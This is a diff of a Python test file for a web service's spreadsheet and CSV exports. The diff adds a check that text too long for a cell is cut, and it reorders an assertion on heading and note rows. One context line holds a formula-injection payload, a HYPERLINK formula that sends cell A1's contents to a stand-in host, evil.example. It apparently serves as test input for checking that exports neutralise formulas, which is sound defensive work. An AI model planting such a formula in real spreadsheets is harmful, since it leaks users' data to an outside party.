@@ -15,7 +15,7 @@ from openpyxl.cell import Cell
 from openpyxl.worksheet.worksheet import Worksheet
 
 from services.web.downloads import csv_download, table_download
-from services.web.spreadsheets import MEDIA_TYPE, Column, Sheet, xlsx
+from services.web.spreadsheets import CELL_LIMIT, CUT, MEDIA_TYPE, Column, Sheet, xlsx
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
 COLUMNS = (Column("name", "Tên đơn vị"), Column("count", "Số tin, bài", "int"),
@@ -92,12 +92,13 @@ class TestXlsx:
         assert sheet.freeze_panes == "A3"
         assert sheet.auto_filter.ref == "A2:F4"
 
-    def test_a_heading_goes_above_the_headers_and_notes_below_the_table(self) -> None:
+    def test_a_heading_and_notes_go_above_the_headers(self) -> None:
         sheet = workbook(heading="=Tiến độ kỳ 2026-W04", notes=["Ghi chú: số liệu tạm"])
         assert (sheet["A1"].value, sheet["A1"].data_type) == ("=Tiến độ kỳ 2026-W04", "s")
-        assert (sheet["A2"].value, sheet["A3"].value) == ("Tên đơn vị", "name")
-        assert sheet.freeze_panes == "A4" and sheet.auto_filter.ref == "A3:F5"
-        assert sheet["A7"].value == "Ghi chú: số liệu tạm"
+        assert sheet["A2"].value == "Ghi chú: số liệu tạm"
+        assert (sheet["A3"].value, sheet["A4"].value) == ("Tên đơn vị", "name")
+        assert sheet.freeze_panes == "A5" and sheet.auto_filter.ref == "A4:F6"
+        assert sheet.max_row == 6  # nothing under the table's rows
 
     def test_an_empty_table_keeps_its_headers(self) -> None:
         sheet = workbook([])
@@ -143,3 +144,9 @@ class TestCsv:
         as_csv = table_download("csv", "bang", Sheet("Bảng", COLUMNS, ROWS))
         assert isinstance(as_csv, StreamingResponse)
         assert csv_rows(body(as_csv))[1] == [c.code for c in COLUMNS]
+
+
+def test_text_longer_than_a_cell_holds_is_cut_and_says_so() -> None:
+    content = xlsx([Sheet("Dài", COLUMNS[:1], [("ồ" * 40_000,)])])
+    value = load_workbook(io.BytesIO(content)).active["A3"].value
+    assert len(value) == CELL_LIMIT and value.endswith(CUT)
